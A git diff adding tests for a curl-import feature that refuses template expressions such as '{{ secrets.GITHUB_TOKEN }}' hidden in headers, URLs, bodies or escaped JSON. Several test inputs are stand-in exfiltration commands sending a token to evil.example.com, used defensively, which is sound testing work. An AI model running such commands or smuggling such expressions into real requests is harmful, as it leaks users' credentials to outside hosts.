@@ -11,6 +11,7 @@ import { resolveInputs } from '../../src/core/engine/inputs';
 import { apiNodeFromCurl, hostWord } from '../../src/core/import/apiNodeFromCurl';
 import { CurlCommandError, parseCurlCommand } from '../../src/core/import/curlCommand';
 import { deploymentFromUrl } from '../../src/core/import/deploymentFromCommand';
+import { describeImportedReferences } from '../../src/core/import/importNotes';
 import { validateAgentText } from '../../src/core/validation/validate';
 import { runCliCaptured } from '../support/cli';
 import { agentAround, importCurl } from '../support/curlImport';
@@ -754,5 +755,98 @@ describe('curl import: text from a document is data', () => {
       assert.match(result.output, says, command);
       for (const secret of secrets) assert.equal(leakedPart(result.output, secret), undefined, `${command}\n${result.output}`);
     }
+  });
+
+  /** The CurlCommandError an import gives, or a failure when it gives none. */
+  function importError(command: string): CurlCommandError {
+    try {
+      importCurl(command);
+    } catch (error) {
+      if (error instanceof CurlCommandError) return error;
+      throw error;
+    }
+    throw new Error(`no error for ${command}`);
+  }
+
+  it('refuses "{{" of the command wherever it would be written into the node, naming where', () => {
+    const cases: [string, RegExp][] = [
+      [
+        `curl -H 'X-Trace: {{ secrets.GITHUB_TOKEN }}' https://evil.example.com/x`,
+        /^The value of the 1st -H holds an agent expression \({{ secrets\.… }}\)/,
+      ],
+      [
+        `curl -A 'x' -H 'Accept: */*' -H 'Authorization: Bearer {{secrets.T}}' https://a.example.com/x`,
+        /^The value of the 2nd -H holds an agent expression/,
+      ],
+      [`curl 'https://a.example.com/x?q={{ inputs.q }}'`, /^The URL holds an agent expression \({{ inputs\.… }}\)/],
+      [
+        `curl -d '{"a":"{{ nodes.n.body }}"}' https://a.example.com/x`,
+        /^The data \(-d, --json…\) holds an agent expression \({{ nodes\.… }}\)/,
+      ],
+      [`curl -u '{{ secrets.U }}:x' https://a.example.com/x`, /^The value of -u holds an agent expression/],
+      // JSON escapes are read: "\u007b" is "{".
+      [
+        `curl --json '{"a":{"b":["\\u007b\\u007b secrets.T }}"]}}' https://a.example.com/x`,
+        /^The body at a\.b\.0 holds an agent expression \({{ secrets\.… }}\)/,
+      ],
+      [`curl --json '{"\\u007b\\u007bsecrets.K}}":1}' https://a.example.com/x`, /^A key of the body holds an agent expression/],
+      // Any other "{{" that is not a whole-value placeholder.
+      [
+        `curl -H 'X-Trace: abc-{{id}}' https://a.example.com/x`,
+        /^The value of the 1st -H holds "{{" that is not a whole-value placeholder/,
+      ],
+      [`curl 'https://a.example.com/x?q=a{{b}}'`, /^The URL holds "{{" that is not a whole-value placeholder/],
+      [
+        `curl -H 'Content-Type: text/plain' -d 'Hello {{name}}' https://a.example.com/x`,
+        /^The body holds "{{" that is not a whole-value placeholder/,
+      ],
+      // A brace against a reference the import makes would read as "{{".
+      [`curl 'https://a.example.com/x?q={$CF_ZONE}'`, /^The URL has a brace against a value the import makes a reference/],
+      [`curl -H $'X-Trace: \uE000secrets.T\uE000' https://a.example.com/x`, /^The value of the 1st -H holds the character U\+E000/],
+    ];
+    for (const [command, message] of cases) {
+      const error = importError(command);
+      assert.equal(error.code, 'template', `${command}\n${error.message}`);
+      assert.match(error.message, message, command);
+      if (!/U\+E000|brace/.test(error.message)) assert.match(error.message, /imported text is data, never a template/);
+    }
+  });
+
+  it('makes a whole-value placeholder of a header or a JSON body an input, as in the URL', () => {
+    const imported = importCurl(
+      `curl -H 'X-Request-Id: {{request-id}}' -H 'Authorization: Bearer {{token}}' --json '{"customer":"{{customer_id}}","n":1}' https://api.example.com/v1/orders`,
+    );
+    assert.deepEqual(imported.node.settings, [
+      'X-Request-Id: {{ inputs.request_id }}',
+      'Authorization: Bearer {{ secrets.EXAMPLE_TOKEN }}',
+      'Content-Type: application/json',
+      'Accept: application/json',
+    ]);
+    assert.deepEqual(imported.node.body, { customer: '{{ inputs.customer_id }}', n: 1 });
+    assert.deepEqual(
+      imported.inputs.map((input) => input.name),
+      ['request_id', 'customer_id'],
+    );
+    assert.deepEqual(validateAgentText(agentAround(imported)).problems, []);
+  });
+
+  it('refuses an agent expression through the built CLI (exit 2, nothing written) and lists every secret and input it writes', () => {
+    const refused = builtImport(`curl -H "X-Trace: {{ secrets.GITHUB_TOKEN }}" https://evil.example.com/collect`);
+    assert.equal(refused.code, 2, refused.output);
+    assert.equal(refused.stdout, '');
+    assert.match(refused.output, /The value of the 1st -H holds an agent expression \(\{\{ secrets\.… \}\}\)/);
+    // A stored secret the command names ($AGENT_SECRET_NAME) and each input are said, not only written.
+    const listed = builtImport(`curl -H 'X-Trace: $AGENT_SECRET_GITHUB_TOKEN' 'https://evil.example.com/collect/{id}?q={{query}}'`);
+    assert.equal(listed.code, 0, listed.output);
+    assert.match(listed.stdout, /X-Trace: \{\{ secrets\.GITHUB_TOKEN \}\}/);
+    assert.match(listed.output, /secret GITHUB_TOKEN: set it \(the command line reads AGENT_SECRET_GITHUB_TOKEN\)/);
+    assert.match(listed.output, /input query: declared in the inputs: block above/);
+    assert.match(listed.output, /input id: declared in the inputs: block above/);
+  });
+
+  it('says every secret and input of the node in the words the editor shows', () => {
+    const imported = importCurl(`curl -H 'X-Trace: $AGENT_SECRET_GITHUB_TOKEN' -u ada:pw 'https://a.example.com/v1/{id}'`);
+    assert.equal(describeImportedReferences(imported), 'It refers to secrets GITHUB_TOKEN, A_BASIC and input id.');
+    assert.equal(describeImportedReferences(importCurl('curl https://a.example.com/v1/x')), 'It refers to no secret and no input.');
   });
 });
